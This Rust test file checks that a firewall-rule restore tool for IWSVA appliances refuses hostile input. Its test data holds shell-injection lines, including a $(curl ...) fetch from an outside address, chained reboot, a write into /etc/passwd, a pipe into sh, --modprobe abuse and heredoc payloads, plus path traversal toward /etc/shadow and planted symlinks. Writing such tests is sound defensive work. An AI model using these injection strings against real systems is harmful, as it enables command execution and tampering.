//! Hostile and odd input: shell injection in snapshot lines, manifests escaping their snapshot,
//! planted symlinks, oversized files, CRLF and Shift_JIS / EUC-JP bytes, empty and missing files,
//! edited snapshots, and untrusted state or configuration. Every refusal names what it refused
//! and changes nothing.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use crate::testenv::{copy_tree, testdata, TestEnv};

/// A scratch copy of an old tree, with line 23 of its firewall script replaced.
fn before_with_line(env: &TestEnv, line: &str) -> std::path::PathBuf {
    let dir = env.dir.path().join("before");
    copy_tree(&testdata().join("iwsva-sp2-to-sp3/before"), &dir);
    let path = dir.join("usr/iwss/iwsvafw.sh");
    let text = fs::read_to_string(&path).unwrap();
    let mut lines: Vec<&str> = text.split('\n').collect();
    assert!(lines[22].contains("192.0.2.1"));
    lines[22] = line;
    fs::write(&path, lines.join("\n")).unwrap();
    dir
}

/// An old custom line the shell would not read as a plain call is never restored: the report
/// names it (line and reason), the other rules are restored, and the exit code is 1.
#[test]
fn injected_shell_is_refused_with_file_and_line() {
    for line in [
        "    IPTABLE ipv4 -A INPUT -p tcp -s $(curl -s http://203.0.113.9/x) -j ACCEPT",
        "    IPTABLE ipv4 -A INPUT -p tcp -s `cat /etc/proxy` -j ACCEPT",
        "    IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.1 -j ACCEPT; reboot",
        "    IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.1 -j ACCEPT && reboot",
        "    IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.1 -j ACCEPT > /etc/passwd",
        "    IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.1 -j ACCEPT | sh",
        "    IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.1 -j ACCEPT\r# ; reboot",
        "    IPTABLE ipv4 -A INPUT --modprobe=/tmp/x -p tcp -s 192.0.2.1 -j ACCEPT",
    ] {
        let env = TestEnv::from_tree(&testdata().join("iwsva-sp2-to-sp3/after"));
        let before = before_with_line(&env, line);
        let run = env.keeper(&["--json", "restore", "--no-restart", "--from", before.to_str().unwrap()]);
        assert_eq!(run.code, 1, "{line}: {}", run.text());
        let report = run.json();
        let discarded = report["comparison"]["discarded"].as_array().unwrap();
        let refused = discarded
            .iter()
            .find(|d| d["line"] == 23)
            .unwrap_or_else(|| panic!("{line}: {discarded:#?}"));
        assert_eq!(
            (&refused["restore"], &refused["attention"]),
            (&serde_json::json!(false), &serde_json::json!(true)),
            "{line}"
        );
        let script = fs::read_to_string(env.root.join("usr/iwss/iwsvafw.sh")).unwrap();
        assert!(
            !script.contains("reboot") && !script.contains("curl") && !script.contains("modprobe"),
            "{line}: {script}"
        );
        assert!(
            script.contains("198.51.100.0/24"),
            "{line}: the other custom rule is restored"
        );
        let (text, code) = env.run(&["diff", before.to_str().unwrap()]);
        assert_eq!(code, 1, "{text}");
        assert!(
            text.contains("  REFUSED (") && text.contains("    old line 23  "),
            "{line}: {text}"
        );
    }
    // A quoted `;` is one word to the shell: no command runs, and a source that is no literal
    // address is no custom rule (iptables would resolve it by DNS): skipped, not restored.
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp2-to-sp3/after"));
    let before = before_with_line(
        &env,
        "    IPTABLE ipv4 -A INPUT -p tcp -s \"192.0.2.1;reboot\" -j ACCEPT",
    );
    let run = env.keeper(&["--json", "diff", before.to_str().unwrap()]);
    let report = run.json();
    let d = &report["comparison"]["discarded"][0];
    assert_eq!(
        (&d["line"], &d["restore"]),
        (&serde_json::json!(23), &serde_json::json!(false)),
        "{d}"
    );
}

/// The script `restore` writes runs nothing but iptables, whatever an old snapshot held: each old
/// line carries a payload (a CR before `#`, a backslash before CR LF, a heredoc, `--modprobe`),
/// and the restored script is run with logging stand-ins for iptables and ip6tables.
#[test]
fn restored_scripts_run_nothing_but_iptables() {
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp2-to-sp3/after"));
    let mark = env.dir.path().join("PWNED");
    let m = mark.display();
    let dir = env.dir.path().join("before");
    copy_tree(&testdata().join("iwsva-sp2-to-sp3/before"), &dir);
    let path = dir.join("usr/iwss/iwsvafw.sh");
    let text = fs::read_to_string(&path).unwrap();
    let payloads = format!(
        "    IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.11 -j ACCEPT\r# ; touch {m}.cr\n\
         \x20   IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.12 -j ACCEPT --x \\\r\n\
         touch {m}.continuation\n\
         \x20   cat >/dev/null <<EOF\n\
         IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.13 -j ACCEPT; touch {m}.heredoc\n\
         EOF\n\
         \x20   IPTABLE ipv4 -A INPUT --modprobe={m}.modprobe -p tcp -s 192.0.2.14 -j ACCEPT\n\
         \x20   IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.15 -j ACCEPT \x1b]0;owned\x07\x1b[2J\n"
    );
    let text = text.replace(
        "    IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.1 -j ACCEPT\n",
        &format!("    IPTABLE ipv4 -A INPUT -p tcp -s 192.0.2.1 -j ACCEPT\n{payloads}"),
    );
    fs::write(&path, text).unwrap();
    let run = env.keeper(&["restore", "--no-restart", "--from", dir.to_str().unwrap()]);
    assert_eq!(run.code, 1, "{}", run.text());
    // Control bytes of the payloads reach neither the terminal nor the log raw.
    let verbose = env.keeper(&["-vv", "diff", dir.to_str().unwrap()]);
    for (what, text) in [("output", run.text()), ("log", env.log()), ("-vv diff", verbose.text())] {
        assert!(
            !text.contains(['\r', '\x1b', '\x07']),
            "raw control bytes in the {what}: {text:?}"
        );
    }
    assert!(
        verbose.stdout.contains("\\x1b]0;owned\\x07\\x1b[2J"),
        "{}",
        verbose.text()
    );
    assert!(run.stdout.contains("-j ACCEPT\\x0d# ; touch"), "{}", run.text());
    let restored = fs::read_to_string(env.root.join("usr/iwss/iwsvafw.sh")).unwrap();
    assert!(restored.contains("-s 192.0.2.1 -j ACCEPT\n"), "{restored}");
    // Run it as the appliance would, with stand-ins that log their arguments.
    let bin = env.dir.path().join("fakebin");
    fs::create_dir_all(&bin).unwrap();
    let log = env.dir.path().join("calls");
    for prog in ["iptables", "ip6tables"] {
        let p = bin.join(prog);
        fs::write(&p, format!("#!/bin/sh\necho \"{prog} $*\" >> '{}'\n", log.display())).unwrap();
        fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let out = std::process::Command::new("bash")
        .arg(env.root.join("usr/iwss/iwsvafw.sh"))
        .arg("start")
        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    for suffix in ["cr", "continuation", "heredoc", "modprobe"] {
        assert!(
            !env.dir.path().join(format!("PWNED.{suffix}")).exists(),
            "the {suffix} payload ran"
        );
    }
    let calls = fs::read_to_string(&log).unwrap();
    assert!(
        calls.contains("iptables -A INPUT -p tcp -s 192.0.2.1 -j ACCEPT"),
        "{calls}"
    );
    for ip in ["192.0.2.11", "192.0.2.12", "192.0.2.13", "192.0.2.14", "192.0.2.15"] {
        assert!(!calls.contains(ip), "{ip} was restored: {calls}");
    }
}

#[test]
fn manifest_paths_escaping_the_snapshot_are_refused() {
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp2-to-sp3/before"));
    let id = String::from_utf8(env.cmd().arg("snapshot").output().unwrap().stdout).unwrap();
    let manifest = env.state.join("snapshots").join(id.trim()).join("manifest.json");
    let original = fs::read_to_string(&manifest).unwrap();
    for bad in [
        "/../../../etc/shadow",
        "etc/sysctl.conf",
        "/etc/./sysctl.conf",
        "/etc//sysctl.conf",
    ] {
        fs::write(&manifest, original.replace("\"/etc/sysctl.conf\"", &format!("{bad:?}"))).unwrap();
        let (out, code) = env.run(&["show", id.trim()]);
        assert_eq!(code, 2, "{bad}: {out}");
        assert!(out.contains("escapes the snapshot; refusing it"), "{bad}: {out}");
    }
}

#[test]
fn an_edited_snapshot_is_refused() {
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp2-to-sp3/before"));
    let id = String::from_utf8(env.cmd().arg("snapshot").output().unwrap().stdout).unwrap();
    let script = env
        .state
        .join("snapshots")
        .join(id.trim())
        .join("files/usr/iwss/iwsvafw.sh");
    let mut bytes = fs::read(&script).unwrap();
    bytes.extend_from_slice(b"IPTABLE ipv4 -A INPUT -s 0.0.0.0/0 -j ACCEPT\n");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o600)).unwrap();
    fs::write(&script, bytes).unwrap();
    let (out, code) = env.run(&["diff", id.trim()]);
    assert_eq!(code, 2, "{out}");
    assert!(out.contains("does not match its checksum"), "{out}");
}

#[test]
fn a_symlinked_sysctl_conf_is_read_through_but_never_written_through() {
    let from = testdata().join("iwsva-sp1-to-sp2/before").display().to_string();
    // A link inside the root: its value (1) is read through it, the edit is refused.
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp1-to-sp2/after"));
    let real = env.root.join("etc/sysctl.real.conf");
    fs::rename(env.root.join("etc/sysctl.conf"), &real).unwrap();
    std::os::unix::fs::symlink("/etc/sysctl.real.conf", env.root.join("etc/sysctl.conf")).unwrap();
    let before = fs::read(&real).unwrap();
    let (out, code) = env.run(&["restore", "--no-restart", "--from", &from]);
    assert_eq!(code, 2, "{out}");
    assert!(
        out.contains("[ROOT]/etc/sysctl.conf is a symbolic link; refusing to edit it"),
        "{out}"
    );
    assert_eq!(fs::read(&real).unwrap(), before);
    assert!(fs::symlink_metadata(env.root.join("etc/sysctl.conf"))
        .unwrap()
        .file_type()
        .is_symlink());
    // A link pointing out of the root: its content is not guessed.
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp1-to-sp2/after"));
    let outside = env.dir.path().join("outside.conf");
    fs::rename(env.root.join("etc/sysctl.conf"), &outside).unwrap();
    std::os::unix::fs::symlink(&outside, env.root.join("etc/sysctl.conf")).unwrap();
    let before = fs::read(&outside).unwrap();
    let (out, code) = env.run(&["restore", "--no-restart", "--from", &from]);
    assert_eq!(code, 2, "{out}");
    assert!(out.contains("[ROOT]/etc/sysctl.conf: a symbolic link to"), "{out}");
    assert!(out.contains("refusing to guess its content"), "{out}");
    assert_eq!(fs::read(&outside).unwrap(), before);
}

#[test]
fn a_symlinked_firewall_script_and_planted_temp_links_are_never_followed() {
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp2-to-sp3/after"));
    let victim = env.dir.path().join("victim");
    fs::write(&victim, b"do not touch\n").unwrap();
    // A link planted where the tool puts its temp file: removed, its target untouched.
    let planted = env.root.join("usr/iwss/.iwsvafw.sh.iwss-keeper-new.1");
    std::os::unix::fs::symlink(&victim, &planted).unwrap();
    let from = testdata().join("iwsva-sp2-to-sp3/before").display().to_string();
    let (out, code) = env.run(&["restore", "--no-restart", "--from", &from]);
    assert_eq!(code, 0, "{out}");
    assert_eq!(fs::read(&victim).unwrap(), b"do not touch\n");
    assert!(fs::symlink_metadata(&planted).is_err(), "planted link left in place");
    // The script itself as a link: read as a link, never written through.
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp2-to-sp3/after"));
    fs::rename(env.root.join("usr/iwss/iwsvafw.sh"), &victim).unwrap();
    let before = fs::read(&victim).unwrap();
    std::os::unix::fs::symlink(&victim, env.root.join("usr/iwss/iwsvafw.sh")).unwrap();
    let (out, _) = env.run(&["restore", "--no-restart", "--from", &from]);
    assert_eq!(fs::read(&victim).unwrap(), before, "{out}");
    assert!(fs::symlink_metadata(env.root.join("usr/iwss/iwsvafw.sh"))
        .unwrap()
        .file_type()
        .is_symlink());
}

#[test]
fn oversized_files_are_refused_by_name() {
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp2-to-sp3/after"));
    let big = env.root.join("etc/sysctl.d/99-huge.conf");
    fs::create_dir_all(big.parent().unwrap()).unwrap();
    fs::File::create(&big).unwrap().set_len(65 * 1024 * 1024).unwrap();
    let (out, code) = env.run(&["snapshot"]);
    assert_eq!(code, 2, "{out}");
    assert!(
        out.contains("[ROOT]/etc/sysctl.d/99-huge.conf: 68157440 bytes is over the 67108864 byte limit"),
        "{out}"
    );
    assert!(!env.state.join("snapshots").exists() || fs::read_dir(env.state.join("snapshots")).unwrap().count() == 0);
}

/// Shift_JIS and EUC-JP for "proxy", as Japanese appliances write comments.
const SJIS: &[u8] = b"\x83\x76\x83\x8d\x83\x4c\x83\x56";
const EUC_JP: &[u8] = b"\xa5\xd7\xa5\xed\xa5\xad\xa5\xb7";

/// Adds a Japanese comment after every line holding `marker`.
fn with_comment(text: &str, marker: &str, comment: &[u8], crlf: bool) -> Vec<u8> {
    let mut out = Vec::new();
    for line in text.lines() {
        out.extend_from_slice(line.as_bytes());
        if line.contains(marker) {
            out.extend_from_slice(b" # ");
            out.extend_from_slice(comment);
        }
        out.extend_from_slice(if crlf { b"\r\n" } else { b"\n" });
    }
    out
}

#[test]
fn crlf_and_japanese_bytes_are_kept_byte_exact() {
    let case = testdata().join("iwsva-sp1-to-sp2");
    let env = TestEnv::from_tree(&case.join("after"));
    let before = env.dir.path().join("before");
    copy_tree(&case.join("before"), &before);
    let read = |p: &std::path::Path| fs::read_to_string(p).unwrap();
    // The script keeps LF (bash needs it) with Shift_JIS and EUC-JP comments; sysctl.conf is CRLF.
    let old_script = with_comment(
        &read(&case.join("before/usr/iwss/iwsvafw.sh")),
        "192.0.2.1",
        SJIS,
        false,
    );
    let new_script = with_comment(
        &read(&case.join("after/usr/iwss/iwsvafw.sh")),
        "# stateful",
        EUC_JP,
        false,
    );
    let new_sysctl = with_comment(&read(&case.join("after/etc/sysctl.conf")), "somaxconn", SJIS, true);
    fs::write(before.join("usr/iwss/iwsvafw.sh"), &old_script).unwrap();
    fs::write(env.root.join("usr/iwss/iwsvafw.sh"), &new_script).unwrap();
    fs::write(env.root.join("etc/sysctl.conf"), &new_sysctl).unwrap();
    let (out, code) = env.run(&["restore", "--no-restart", "--from", &before.display().to_string()]);
    assert_eq!(code, 0, "{out}");
    let custom: Vec<&[u8]> = old_script
        .split_inclusive(|&b| b == b'\n')
        .filter(|l| l.windows(SJIS.len()).any(|w| w == SJIS))
        .collect();
    assert_eq!(custom.len(), 1);
    let mut expected = Vec::new();
    for line in new_script.split_inclusive(|&b| b == b'\n') {
        expected.extend_from_slice(line);
        if line.windows(EUC_JP.len()).any(|w| w == EUC_JP) {
            expected.extend_from_slice(custom[0]);
        }
    }
    assert_eq!(fs::read(env.root.join("usr/iwss/iwsvafw.sh")).unwrap(), expected);
    let sysctl = fs::read(env.root.join("etc/sysctl.conf")).unwrap();
    // Byte for byte the upgraded file, but for the one value.
    let at = new_sysctl.windows(14).position(|w| w == b"tcp_rfc1337=1\r").unwrap();
    let mut fixed = new_sysctl.clone();
    fixed[at + 12] = b'0';
    assert_eq!(sysctl, fixed);
    assert!(sysctl.windows(SJIS.len()).any(|w| w == SJIS), "Shift_JIS bytes lost");
}

#[test]
fn empty_and_missing_files() {
    let from = testdata().join("iwsva-sp1-to-sp2/before").display().to_string();
    // An empty sysctl.conf: the kernel default 0 already covers rfc1337.
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp1-to-sp2/after"));
    fs::write(env.root.join("etc/sysctl.conf"), b"").unwrap();
    let (out, code) = env.run(&["restore", "--no-restart", "--from", &from]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("already 0: the new version's default covers it"), "{out}");
    assert_eq!(fs::read(env.root.join("etc/sysctl.conf")).unwrap(), b"");
    // No sysctl.conf, a drop-in that sets 1: sysctl.conf is created with the custom value.
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp1-to-sp2/after"));
    fs::remove_file(env.root.join("etc/sysctl.conf")).unwrap();
    fs::create_dir_all(env.root.join("usr/lib/sysctl.d")).unwrap();
    fs::write(
        env.root.join("usr/lib/sysctl.d/50-vendor.conf"),
        b"net.ipv4.tcp_rfc1337 = 1\n",
    )
    .unwrap();
    let (out, code) = env.run(&["restore", "--no-restart", "--from", &from]);
    assert_eq!(code, 0, "{out}");
    assert_eq!(
        fs::read(env.root.join("etc/sysctl.conf")).unwrap(),
        b"net.ipv4.tcp_rfc1337=0\n"
    );
    assert_eq!(
        fs::metadata(env.root.join("etc/sysctl.conf"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o644
    );
    // The new file takes the owner and group of its directory: whoever runs the tool on a tree
    // they own (no chown needed), root's own on an appliance.
    use std::os::unix::fs::MetadataExt;
    let created = fs::metadata(env.root.join("etc/sysctl.conf")).unwrap();
    let dir = fs::metadata(env.root.join("etc")).unwrap();
    assert_eq!((created.uid(), created.gid()), (dir.uid(), dir.gid()));
    if crate::testenv::is_root() {
        // As root, a directory owned by someone else gives its owner to the new file.
        let env = TestEnv::from_tree(&testdata().join("iwsva-sp1-to-sp2/after"));
        fs::remove_file(env.root.join("etc/sysctl.conf")).unwrap();
        fs::create_dir_all(env.root.join("usr/lib/sysctl.d")).unwrap();
        fs::write(
            env.root.join("usr/lib/sysctl.d/50-vendor.conf"),
            b"net.ipv4.tcp_rfc1337 = 1\n",
        )
        .unwrap();
        std::os::unix::fs::chown(env.root.join("etc"), Some(4321), Some(4322)).unwrap();
        // (The configuration is elsewhere: one in a directory another user owns is refused.)
        let config = env.dir.path().join("config.toml");
        fs::write(&config, "").unwrap();
        let config = config.display().to_string();
        let (out, code) = env.run(&["--config", &config, "restore", "--no-restart", "--from", &from]);
        assert_eq!(code, 0, "{out}");
        let created = fs::metadata(env.root.join("etc/sysctl.conf")).unwrap();
        assert_eq!((created.uid(), created.gid()), (4321, 4322));
    }
    // An empty firewall script: nowhere to put the rules, refused, nothing changed.
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp1-to-sp2/after"));
    fs::write(env.root.join("usr/iwss/iwsvafw.sh"), b"").unwrap();
    let untouched = env.files();
    let (out, code) = env.run(&["restore", "--no-restart", "--from", &from]);
    assert_eq!(code, 2, "{out}");
    assert!(out.contains("no place to restore"), "{out}");
    assert_eq!(env.files(), untouched);
    // An empty version file: a clear error, never a guess.
    let env = TestEnv::from_tree(&testdata().join("iwsva-sp1-to-sp2/after"));
    fs::write(env.root.join("usr/iwss/version"), b"").unwrap();
    let (out, code) = env.run(&["status"]);
    assert_eq!(code, 2, "{out}");
    assert!(
        out.contains("[ROOT]/usr/iwss/version: no IWSVA/IWSS version found"),
        "{out}"
    );
}

#[test]
fn untrusted_state_and_configuration_are_refused() {
    let env = TestEnv::from_tree(&testdata().join("iwss-p2-to-p3/before"));
    fs::create_dir_all(&env.state).unwrap();
    fs::set_permissions(&env.state, fs::Permissions::from_mode(0o777)).unwrap();
    let (out, code) = env.run(&["list"]);
    assert_eq!(code, 2, "{out}");
    assert!(
        out.contains("state directory [STATE] is group- or world-writable (mode 0777)"),
        "{out}"
    );
    fs::set_permissions(&env.state, fs::Permissions::from_mode(0o700)).unwrap();
    let config = env.root.join("etc/iwss-keeper/config.toml");
    fs::create_dir_all(config.parent().unwrap()).unwrap();
    fs::write(&config, "strict = true\n").unwrap();
    fs::set_permissions(&config, fs::Permissions::from_mode(0o666)).unwrap();
    let (out, code) = env.run(&["list"]);
    assert_eq!(code, 2, "{out}");
    assert!(
        out.contains("configuration [ROOT]/etc/iwss-keeper/config.toml is group- or world-writable"),
        "{out}"
    );
    fs::set_permissions(&config, fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(env.run(&["list"]).1, 0);
    // Owned by another user (only root can arrange that).
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } == 0 {
        std::os::unix::fs::chown(&config, Some(4242), None).unwrap();
        let (out, code) = env.run(&["list"]);
        assert_eq!(code, 2, "{out}");
        assert!(
            out.contains("is owned by uid 4242, not root or the running user"),
            "{out}"
        );
    }
}
